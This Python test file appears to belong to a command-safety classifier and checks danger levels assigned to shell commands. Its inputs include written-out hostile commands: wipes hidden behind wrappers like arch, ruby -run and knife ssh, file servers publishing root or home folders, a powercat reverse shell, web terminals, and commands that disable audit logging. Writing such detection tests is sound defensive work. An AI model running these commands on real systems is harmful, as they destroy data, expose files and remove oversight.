"""h17 (session 17): families that sources_h17.tsv (detection-rule and incident-report
mechanisms nobody here had harvested) showed, each checked bare, wrapped, and next to
look-alikes that must keep their level.

- macOS `arch [-x86_64|-arm64|…] [-e VAR=V] [-d VAR] [-arch NAME] PROG ARGS` runs PROG: it
  was on the read-only allowlist as the bare `arch` (print the machine's architecture);
- PowerShell's `ForEach-Object -InputObject VALUE { … $_ … }` (any unique prefix of the
  parameter, `%` too): the value is `$_`, as if piped in.
"""

from __future__ import annotations

import pytest

from tests.safety._levels import PS_BLOCK_WRAPPERS, B, C, D, M, S
from tests.safety._levels import level as _level

ARCH_BLOCKED = [
    "arch -x86_64 rm -rf /Users",
    "arch -arm64 rm -rf ~",
    "arch -arm64 -e FOO=1 rm -rf ~",
    "arch -d DYLD_LIBRARY_PATH -x86_64 /bin/rm -rf /",
    "arch -arch x86_64 /bin/rm -rf /",
    "arch -x86_64 /bin/zsh -c 'rm -rf /'",
    "arch -i386 dd if=/dev/zero of=/dev/disk0",
]


@pytest.mark.parametrize("command", ARCH_BLOCKED)
def test_arch_runs_its_program(command: str) -> None:
    assert _level(command) == B


@pytest.mark.parametrize("command", ARCH_BLOCKED[:3])
@pytest.mark.parametrize(
    "wrap",
    ["sudo {}", "env LC_ALL=C {}", "sh -c {q}", "eval {q}", "f() {{ {}; }}; f", "nice {}"],
)
def test_arch_wrapped_keeps_its_level(command: str, wrap: str) -> None:
    quoted = "'" + command.replace("'", "'\\''") + "'"
    assert _level(wrap.format(command, q=quoted)) == B


@pytest.mark.parametrize(
    "command,expected",
    [
        ("arch", S),  # prints the machine's architecture
        ("arch -x86_64 ls -la", S),
        ("arch -arm64 brew install jq", M),
        ("arch -x86_64 rm -rf ./build", D),
        ("echo arch -x86_64 rm -rf /", S),
    ],
)
def test_arch_look_alikes(command: str, expected: int) -> None:
    assert _level(command) == expected


INPUT_OBJECT_BLOCKED = [
    "ForEach-Object -InputObject 'C:\\Windows' -Process { Remove-Item $_ -Recurse -Force }",
    "ForEach-Object -InputObject $HOME -Process { Remove-Item $_ -Recurse -Force }",
    "% -InputObject C:\\Users { rm $_ -r -fo }",
    'ForEach-Object -in "$env:windir" { Remove-Item -LiteralPath $_ -Recurse -Force }',
    "ForEach-Object -InputObject:'C:\\Users' { Remove-Item $_ -Recurse -Force }",
    "$x = 1; ForEach-Object -InputObject 'C:\\Windows' -Process { Remove-Item $_ -Recurse -Force }",
]


@pytest.mark.parametrize("command", INPUT_OBJECT_BLOCKED)
def test_input_object_is_the_loop_variable(command: str) -> None:
    assert _level(command, "powershell") == B


@pytest.mark.parametrize("command", INPUT_OBJECT_BLOCKED[:3])
@pytest.mark.parametrize("wrap", PS_BLOCK_WRAPPERS)
def test_input_object_wrapped_keeps_its_level(command: str, wrap: str) -> None:
    assert _level(wrap.format(command), "powershell") == B


def test_input_object_from_cmd() -> None:
    command = (
        'powershell -c "ForEach-Object -InputObject C:\\Windows { Remove-Item $_ -Recurse -Force }"'
    )
    assert _level(command, "cmd") == B


@pytest.mark.parametrize(
    "command,expected",
    [
        ("ForEach-Object -InputObject '.\\build' -Process { Remove-Item $_ -Recurse -Force }", D),
        ("ForEach-Object -InputObject 'C:\\Windows' -Process { Get-ChildItem $_ }", S),
        ("ForEach-Object -InputObject 'C:\\Windows' -Process { Write-Output \"rm $_\" }", S),
        ("Write-Output 'ForEach-Object -InputObject C:\\Windows { Remove-Item $_ -Recurse }'", S),
        ("# ForEach-Object -InputObject C:\\Windows { Remove-Item $_ -Recurse -Force }", S),
        ("Get-Process | Where-Object -Property Name -In 'a','b'", S),
    ],
)
def test_input_object_look_alikes(command: str, expected: int) -> None:
    assert _level(command, "powershell") == expected


# --- file servers publishing the root, a home or a system folder (exfiltration) ----------
SERVES_PROTECTED = [
    "busybox httpd -f -p 8080 -h /",
    "darkhttpd / --port 8080",
    "miniserve /",
    "dufs -p 5000 ~",
    "http-server / -p 8080",
    "npx http-server / -p 8080",
    "updog -d / -p 8080",
    "twistd -n web --path / --port tcp:8080",
    "caddy file-server --root / --listen :8080",
    "rclone serve http / --addr :8080",
    "rclone serve webdav ~ --addr 0.0.0.0:8080",
    "cd / && python3 -m http.server 8080",
    "cd ~ && darkhttpd .",
    "ruby -run -e httpd -- --port=8080 /",
    "ruby -run -e httpd / -p 8080",
    "npx serve ~",
    "python3 -m pyftpdlib -d / -p 2121 -w",
    "python3 -m uploadserver --directory /",
    "twistd -n ftp -r /",
]


@pytest.mark.parametrize("command", SERVES_PROTECTED)
def test_file_server_of_a_protected_folder_is_exfiltration(command: str) -> None:
    assert _level(command) == C


@pytest.mark.parametrize("command", SERVES_PROTECTED[:4])
@pytest.mark.parametrize("wrap", ["sudo {}", "env A=1 {}", "sh -c {q}", "f() {{ {}; }}; f"])
def test_file_server_wrapped_keeps_its_level(command: str, wrap: str) -> None:
    quoted = "'" + command.replace("'", "'\\''") + "'"
    assert _level(wrap.format(command, q=quoted)) == C


@pytest.mark.parametrize(
    "command,expected",
    [
        ("busybox httpd -f -p 8080 -h ./public", M),
        ("python3 -m http.server 8080", M),
        ("miniserve ./dist -p 8080", M),
        ("darkhttpd / --addr 127.0.0.1", M),  # loopback only
        ("caddy file-server --root ./public", M),
        ("rclone serve http ./site", M),
        ("rclone serve http remote:bucket", M),
        ("ruby -run -e httpd -- --port=8080 ./public", M),
        ("httpd -k start", M),
        ("serve ./dist -l 3000", M),
        ("python3 -m pyftpdlib -p 2121", M),
        ("twistd -n ftp -r ./pub", M),
        ("serve --help", S),
        ("httpd -t", S),
        ("miniserve --help", S),
        ("echo darkhttpd / --port 8080", S),
    ],
)
def test_file_server_look_alikes(command: str, expected: int) -> None:
    assert _level(command) == expected


# --- Ruby's `un` library: `ruby -run -e UTILITY -- ARGS` is the utility ------------------
RUBY_UN_BLOCKED = [
    "ruby -run -e rm -- -rf /",
    "ruby -run -e rm -- -rf ~",
    "ruby -r un -e rm -- -rf /etc",
    "ruby --require=un -e rm -- -fr /usr",
    "ruby -run -e mv -- /etc /tmp/e",
    "ruby -run -e chmod -- -R 000 /",
]


@pytest.mark.parametrize("command", RUBY_UN_BLOCKED)
def test_ruby_un_utilities(command: str) -> None:
    assert _level(command) == B


@pytest.mark.parametrize("command", RUBY_UN_BLOCKED[:2])
@pytest.mark.parametrize("wrap", ["sudo {}", "timeout 5 {}", "sh -c {q}", "eval {q}"])
def test_ruby_un_wrapped_keeps_its_level(command: str, wrap: str) -> None:
    quoted = "'" + command.replace("'", "'\\''") + "'"
    assert _level(wrap.format(command, q=quoted)) == B


@pytest.mark.parametrize(
    "command,expected",
    [
        ("ruby -run -e rm -- -rf build", D),
        ("ruby -run -e mkdir -- -p out/x", M),
        ("ruby -run -e help", S),
        ("ruby -e 'puts 1'", S),
        ("echo ruby -run -e rm -- -rf /", S),
    ],
)
def test_ruby_un_look_alikes(command: str, expected: int) -> None:
    assert _level(command) == expected


# --- login ports published by a tunnel, auditing rules that audit nothing ---------------
@pytest.mark.parametrize(
    "command,expected",
    [
        ("cloudflared tunnel --url ssh://localhost:22", C),
        ("cloudflared tunnel --url tcp://localhost:3389", C),
        ("cloudflared tunnel --url=rdp://127.0.0.1:3389", C),
        ("cloudflared tunnel --url http://localhost:8080", M),
        ("auditctl -a never,task", C),
        ("auditctl -a exit,never -S all", C),
        ("sudo auditctl -A never,exit -F arch=b64 -S execve", C),
        ("auditctl -a always,exit -F arch=b64 -S execve", M),
        ("auditctl -l", S),
    ],
)
def test_tunnels_and_audit_rules(command: str, expected: int) -> None:
    assert _level(command) == expected


# --- protected folders in Windows spelling; shares; web terminals; powercat --------------
@pytest.mark.parametrize(
    "command,shell,expected",
    [
        ("python -m http.server -d C:\\ 8080", "powershell", C),
        ("npx http-server C:\\Users -p 8080", "powershell", C),
        ("python -m http.server --directory %USERPROFILE%", "cmd", C),
        ("python3 -m http.server -d /var/lib", "bash", C),
        ("python -m http.server -d C:\\src\\site", "powershell", M),
        ("python3 -m http.server -d /srv/www/site", "bash", M),
        ("python3 -m http.server -d /srv", "bash", M),  # shared or served data, not a home
        ("python3 -m http.server -d /tmp", "bash", M),
        ("python3 -m http.server -d /usr", "bash", C),
        ("New-SmbShare -Name all -Path C:\\ -FullAccess Everyone", "powershell", C),
        ("New-SmbShare -Name u -Path $env:USERPROFILE -ReadAccess Everyone", "powershell", C),
        ("New-SmbShare u C:\\Users", "powershell", C),
        ("New-SmbShare -Name site -Path D:\\www\\site -ReadAccess Everyone", "powershell", M),
        ("net share docs=%USERPROFILE% /grant:everyone,read", "cmd", C),
        ("net share w=C:\\Windows", "cmd", C),
        ("net share site=D:\\www\\site", "cmd", M),
        ("net share", "cmd", S),
        ("Get-SmbShare", "powershell", S),
        ("gotty -w bash", "bash", C),
        ("ttyd -p 7681 -W /bin/zsh", "bash", C),
        ("websocketd --port=8080 bash", "bash", C),
        ("wetty --port 3000 --command bash", "bash", C),
        ("sudo ttyd -W bash", "bash", C),
        ("ttyd htop", "bash", M),
        ("gotty -w bash --address 127.0.0.1", "bash", M),
        ("ttyd --help", "bash", S),
        ("powercat -c 10.0.0.1 -p 4444 -e cmd", "powershell", C),
        ("powercat -l -p 4444 -ep", "powershell", C),
        ("powercat -c 10.0.0.1 -p 80", "powershell", M),
    ],
)
def test_published_folders_and_shells(command: str, shell: str, expected: int) -> None:
    assert _level(command, shell) == expected


# --- logging daemons by their BSD/macOS names; the DSRM administrator password -----------
@pytest.mark.parametrize(
    "command,shell,expected",
    [
        ("launchctl unload -w /System/Library/LaunchDaemons/com.apple.syslogd.plist", "bash", C),
        ("sudo launchctl bootout system/com.apple.syslogd", "bash", C),
        ("launchctl disable system/com.apple.logd", "bash", C),
        ("killall syslogd", "bash", C),
        ("service syslogd stop", "bash", C),
        ("launchctl list com.apple.syslogd", "bash", S),
        ("pgrep syslogd", "bash", S),
        ('ntdsutil "set dsrm password" "reset password on server null" q q', "cmd", C),
        ('ntdsutil "set dsrm password" "sync from domain account dsrmsync" q q', "cmd", C),
        ('ntdsutil "metadata cleanup" q', "cmd", M),
    ],
)
def test_logging_daemons_and_dsrm(command: str, shell: str, expected: int) -> None:
    assert _level(command, shell) == expected


# --- remote command lines of orchestrators: knife ssh, mco shell run, nomad alloc exec ---
ORCHESTRATED_WIPES = [
    "knife ssh 'role:web' 'sudo rm -rf /'",
    "knife ssh name:web01 'rm -rf /etc' -x ubuntu",
    "knife ssh -x ubuntu -i key.pem 'role:db' 'dd if=/dev/zero of=/dev/sda'",
    "mco shell run 'rm -rf /'",
    "nomad alloc exec 1234 rm -rf /",
    "nomad alloc exec -task web 1234 sh -c 'rm -rf /'",
]


@pytest.mark.parametrize("command", ORCHESTRATED_WIPES)
def test_orchestrator_remote_wipes(command: str) -> None:
    assert _level(command) == B


@pytest.mark.parametrize("command", ORCHESTRATED_WIPES[:1] + ORCHESTRATED_WIPES[3:5])
@pytest.mark.parametrize("wrap", ["sudo {}", "env A=1 {}", "sh -c {q}", "f() {{ {}; }}; f"])
def test_orchestrator_wrapped_keeps_its_level(command: str, wrap: str) -> None:
    quoted = "'" + command.replace("'", "'\\''") + "'"
    assert _level(wrap.format(command, q=quoted)) == B


@pytest.mark.parametrize(
    "command,expected",
    [
        ("knife ssh 'role:web' 'uptime'", M),
        ("knife ssh 'role:web' interactive", M),
        ("mco shell run uptime", M),
        ("nomad job status", S),
        ("echo knife ssh 'role:web' 'sudo rm -rf /'", S),
    ],
)
def test_orchestrator_look_alikes(command: str, expected: int) -> None:
    assert _level(command) == expected


# --- ESXi: a new VMFS written over a physical disk's partition is mkfs ------------------
@pytest.mark.parametrize(
    "command,expected",
    [
        ("vmkfstools -C vmfs6 -S ds2 /vmfs/devices/disks/naa.600:1", B),
        ("vmkfstools --createfs vmfs5 -b 1m -S x /vmfs/devices/disks/mpx.vmhba1:C0:T0:L0:3", B),
        ("sudo vmkfstools -C vmfs6 -S ds2 /vmfs/devices/disks/naa.600:1", B),
        ("vmkfstools -c 10G -d thin /vmfs/volumes/ds1/vm/x.vmdk", M),
        ("vmkfstools -P /vmfs/volumes/ds1", S),
    ],
)
def test_vmkfstools_createfs(command: str, expected: int) -> None:
    assert _level(command) == expected
